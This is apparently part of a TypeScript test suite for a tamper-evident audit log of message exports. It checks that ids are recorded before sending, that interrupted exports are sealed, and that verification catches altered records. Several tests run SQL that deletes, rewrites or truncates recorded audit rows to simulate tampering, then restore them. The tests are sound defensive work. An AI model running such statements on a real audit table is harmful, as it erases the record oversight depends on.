    const [startEntry] = await store.list({ limit: 1, action: 'export' });
    expect(startEntry?.detail).toEqual({ exportId: r.id, phase: 'start' });
    expect(await whoSaw('bulk-2400')).toEqual([{ seq: startEntry!.seq, phase: 'start', exportId: r.id }]);
    expect(await r.finish({ delivered: true })).toBe('complete');

    const [end] = await store.list({ limit: 1, action: 'export' });
    expect(end).toMatchObject({
      actor: 'olivia', messageCount: N,
      detail: { exportId: r.id, phase: 'complete', count: N, idsRecorded: N, idsSha256: idsDigest(bulkIds(1, N)) },
    });
    // Inline, the entry keeps the first MAX_LOGGED_MESSAGE_IDS; the lookup finds it for any of them.
    expect(end!.messageIds).toEqual(bulkIds(1, MAX_LOGGED_MESSAGE_IDS));
    for (const id of ['bulk-1', 'bulk-1000', 'bulk-1001', 'bulk-2400', `bulk-${N}`]) {
      expect(await whoSaw(id)).toEqual([{ seq: end!.seq, phase: 'complete', exportId: r.id }]);
    }
    expect(await whoSaw('bulk-2501')).toEqual([]);
    expect(await recordedRows(r.id)).toBe(N);
    expect(await store.verify({ idsBatchSize: 700 })).toMatchObject({ ok: true, exportMessageIds: N });
    complete = { id: r.id, endSeq: end!.seq };
  });

  it('records every batch before any of it is sent, so a cut-off export has each message begun on record', async () => {
    const r = await start();
    // Reads chunk by chunk: whatever has left, its ids were committed before.
    let received = Buffer.alloc(0);
    let chunks = 0;
    for await (const chunk of r.stream) {
      chunks++;
      received = Buffer.concat([received, chunk as Buffer]);
      const begun = received.toString('latin1').split('\n').length - (received[received.length - 1] === 10 ? 1 : 0);
      expect(await recordedRows(r.id)).toBeGreaterThanOrEqual(begun);
      if (received.length >= 200_000) break; // the client goes away
    }
    expect(chunks).toBeGreaterThan(2);
    await closed(r.stream);
    // The network took the first k messages and part of message k + 1.
    const lines = received.toString('utf8').split('\n');
    const k = lines.length - 10;
    const within = Buffer.byteLength(lines.slice(0, k).join('\n') + '\n');
    expect(await r.finish({ delivered: false, bytes: within, maxBytes: within + 10, failure: 'disconnected' })).toBe('failed');
    const [end] = await store.list({ limit: 1, action: 'export' });
    const recorded = await recordedRows(r.id);
    expect(end).toMatchObject({ messageCount: k + 1, detail: { exportId: r.id, phase: 'failed', count: k, idsRecorded: recorded, idsSha256: idsDigest(bulkIds(1, recorded)) } });
    // Begun: found by the failed export's end (and by the complete export before it).
    expect((await whoSaw(`bulk-${k + 1}`)).map((e) => e.exportId)).toEqual([r.id, complete.id]);
    // Recorded in its batch but never begun: the cut export does not claim it.
    expect(recorded).toBeGreaterThan(k + 1);
    expect((await whoSaw(`bulk-${k + 2}`)).map((e) => e.exportId)).toEqual([complete.id]);
    expect((await store.verify()).ok).toBe(true);
  });

  it('sends nothing of a batch whose ids cannot be recorded', async () => {
    await db.sql.unsafe(`CREATE FUNCTION export_messages_down() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'export_messages down (test)'; END $$`);
    await db.sql`CREATE TRIGGER export_messages_down BEFORE INSERT ON export_messages FOR EACH STATEMENT EXECUTE FUNCTION export_messages_down()`;
    try {
      const r = await start(new RecordingAccessLog());
      const got: Buffer[] = [];
      await expect(
        new Promise<void>((resolve, reject) => r.stream.on('data', (c: Buffer) => got.push(c)).once('end', resolve).once('error', reject)),
      ).rejects.toThrow(/export_messages down/);
      expect(got).toEqual([]);
      expect(await r.finish({ delivered: false, bytes: 0, maxBytes: 0, failure: 'disconnected' })).toBe('failed');
      expect((await getExport(db.sql, r.id))?.failure).toBe('error');
    } finally {
      await db.sql`DROP TRIGGER export_messages_down ON export_messages`;
    }
  });

  it('seals at the next start what an export the process left running had recorded', async () => {
    const r = await start(store, 100);
    for await (const _ of r.stream) break;
    await closed(r.stream);
    const recorded = await recordedRows(r.id);
    expect(recorded).toBeGreaterThan(0);
    // The process "ends" without finish(); the next start settles its manifest.
    expect(await failInterruptedExports(db.sql, store, 'main')).toEqual([r.id]);
    const [end] = await store.list({ limit: 1, action: 'export' });
    expect(end).toMatchObject({
      actor: 'system', messageCount: recorded, messageIds: bulkIds(1, recorded),
      detail: { exportId: r.id, phase: 'failed', failure: 'interrupted', idsRecorded: recorded, idsSha256: idsDigest(bulkIds(1, recorded)) },
    });
    expect((await whoSaw(`bulk-${recorded}`)).map((e) => e.exportId)).toContain(r.id);
    expect((await store.verify()).ok).toBe(true);
  });

  it('seals at the next start an export that ended while its end entry could not be written, and verify is whole again', async () => {
    // The log takes the start entry, then cannot be written when the export ends.
    const endRefused: AccessLog = {
      record: (e) => (e.detail?.phase === 'start' ? store.record(e) : Promise.reject(new Error('access log down (test)'))),
    };
    const r = await start(endRefused, 100);
    for await (const _ of r.stream);
    expect(await r.finish({ delivered: true })).toBe('failed');
    const recorded = await recordedRows(r.id);
    expect(recorded).toBe(N);
    // The manifest is written either way (it says what the client got).
    expect((await getExport(db.sql, r.id))?.status).toBe('complete');
    expect((await store.verify()).ok).toBe(false);
    expect(await sealUnloggedExportEnds(db.sql, store)).toEqual([r.id]);
    const [end] = await store.list({ limit: 1, action: 'export' });
    expect(end).toMatchObject({
      actor: 'system', messageCount: recorded,
      detail: { exportId: r.id, phase: 'sealed-late', status: 'complete', idsRecorded: recorded, idsSha256: idsDigest(bulkIds(1, recorded)) },
    });
    expect((await store.verify()).ok).toBe(true);
    // Once sealed, nothing more to do.
    expect(await sealUnloggedExportEnds(db.sql, store)).toEqual([]);
  });

  it('refuses UPDATE, DELETE and TRUNCATE of recorded ids in the database itself', async () => {
    const sql = db.sql;
    await expect(sql`UPDATE export_messages SET stanza_id = 'other' WHERE export_id = ${complete.id}::bigint AND ord = 2400`).rejects.toThrow(/append-only/);
    await expect(sql`DELETE FROM export_messages WHERE export_id = ${complete.id}::bigint AND ord = 2400`).rejects.toThrow(/append-only/);
    await expect(sql`TRUNCATE export_messages`).rejects.toThrow(/append-only/);
    expect(await whoSaw('bulk-2400')).toContainEqual({ seq: complete.endSeq, phase: 'complete', exportId: complete.id });
  });

  it.each([
    ['a recorded id removed', `DELETE FROM export_messages WHERE export_id = $1 AND ord = 2400`, /sealed 2500, export_messages holds 2499/],
    ['an id changed', `UPDATE export_messages SET stanza_id = 'bulk-x' WHERE export_id = $1 AND ord = 2400`, /sealed 2500, export_messages holds 2500 with another digest/],
    ['an id added', `INSERT INTO export_messages VALUES ($1, 2501, 'bulk-1')`, /sealed 2500, export_messages holds 2501/],
    ['every id removed', `DELETE FROM export_messages WHERE export_id = $1`, /sealed 2500, export_messages holds none/],
  ])('names the export\'s end entry in verify when the table is tampered with: %s', async (_, tamper, reason) => {
    const [saved] = await db.sql<{ rows: { ord: string; stanza_id: string }[] }[]>`
      SELECT coalesce(json_agg(json_build_object('ord', ord, 'stanza_id', stanza_id)), '[]'::json) AS rows FROM export_messages WHERE export_id = ${complete.id}::bigint`;
    await asOwner(() => db.sql.unsafe(tamper, [complete.id]));
    try {
      const report = await store.verify({ idsBatchSize: 999 });
      expect(report.ok).toBe(false);
      expect(report.firstBroken).toEqual({ seq: complete.endSeq, reason: expect.stringMatching(reason) });
    } finally {
      // Put back as it was; verify passes again.
      await asOwner(async () => {
        await db.sql`DELETE FROM export_messages WHERE export_id = ${complete.id}::bigint`;
        const rows = saved!.rows;
        await db.sql`INSERT INTO export_messages SELECT ${complete.id}::bigint, ord, stanza_id FROM unnest(${rows.map((r) => r.ord)}::bigint[], ${rows.map((r) => r.stanza_id)}::text[]) AS t(ord, stanza_id)`;
      });
    }
    expect((await store.verify()).ok).toBe(true);
  });

  it('reports ids recorded for an export no entry seals: added by hand, they would otherwise be taken as seen', async () => {
    const before = await store.verify();
    expect(before.ok).toBe(true);
    // An export that ended long ago (a manifest that is not running) and one no entry names at all.
    const [manifest] = await db.sql<{ id: string }[]>`
      INSERT INTO exports (account, format, query, status) VALUES ('olivia', 'jsonl', '{}', 'failed') RETURNING id::text AS id`;
    await store.record({ principal: officer, ip: '192.0.2.7', action: 'export', detail: { exportId: manifest!.id, phase: 'start' } });
    const [startEntry] = await store.list({ limit: 1 });
    await db.sql`INSERT INTO export_messages VALUES (${manifest!.id}::bigint, 1, 'bulk-7')`;
    // The lookup takes the unsealed export's start entry at its word…
    expect((await whoSaw('bulk-7')).map((e) => e.seq)).toContain(startEntry!.seq);
    // …and verify says it cannot be checked.
    expect((await store.verify()).firstBroken).toEqual({ seq: startEntry!.seq, reason: expect.stringMatching(/has 1 message ids recorded but no end entry sealing them/) });
    await asOwner(() => db.sql`DELETE FROM export_messages WHERE export_id = ${manifest!.id}::bigint`);
    await db.sql`INSERT INTO export_messages VALUES (987654321, 1, 'bulk-7')`;
    expect((await store.verify()).firstBroken).toEqual({ seq: expect.any(String), reason: expect.stringMatching(/export_messages holds 1 message ids of export 987654321, which no entry of the log names/) });
    await asOwner(() => db.sql`DELETE FROM export_messages WHERE export_id = 987654321`);
    expect((await store.verify()).ok).toBe(true);
  });
});
